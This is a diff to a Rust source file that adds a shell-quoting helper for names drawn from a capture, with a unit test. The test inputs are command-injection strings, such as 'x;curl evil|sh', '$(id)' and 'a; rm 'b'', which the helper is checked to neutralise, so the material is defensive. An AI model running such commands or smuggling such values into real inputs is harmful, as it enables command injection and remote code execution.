@@ -56,6 +56,16 @@ impl LeftOut {
     }
 }
 
+/// A word of a shell command: as it is where a shell takes it as it is, else between quotes. Names in a capture are
+/// whatever somebody wrote there, so each goes through here on its way into a step.
+pub fn quoted(text: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | ':' | '@' | '+' | '=' | ',');
+    match !text.is_empty() && text.chars().all(plain) {
+        true => text.to_owned(),
+        false => format!("'{}'", text.replace('\'', r"'\''")),
+    }
+}
+
 /// Why there is no proposal.
 #[derive(Clone, PartialEq, Eq, Debug, thiserror::Error)]
 #[error("no policy can be proposed: {reason}")]
@@ -81,5 +91,24 @@ pub trait Proposes {
     /// The document that tells which operations an identity used, and how it is made; `None` where the vendor has none.
     fn evidence_of_use(&self, _identity: &IdentityId) -> Option<String> {
         None
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::quoted;
+
+    #[test]
+    fn words_of_commands_are_one_word_to_a_shell() {
+        for (text, word) in [
+            ("arn:aws:iam::1:policy/a+b=c,d@e-f_g", "arn:aws:iam::1:policy/a+b=c,d@e-f_g"),
+            ("a; rm 'b'", r"'a; rm '\''b'\'''"),
+            ("x;curl evil|sh", "'x;curl evil|sh'"),
+            ("$(id)", "'$(id)'"),
+            ("a\nb", "'a\nb'"),
+            ("", "''"),
+        ] {
+            assert_eq!(quoted(text), word);
+        }
     }
 }
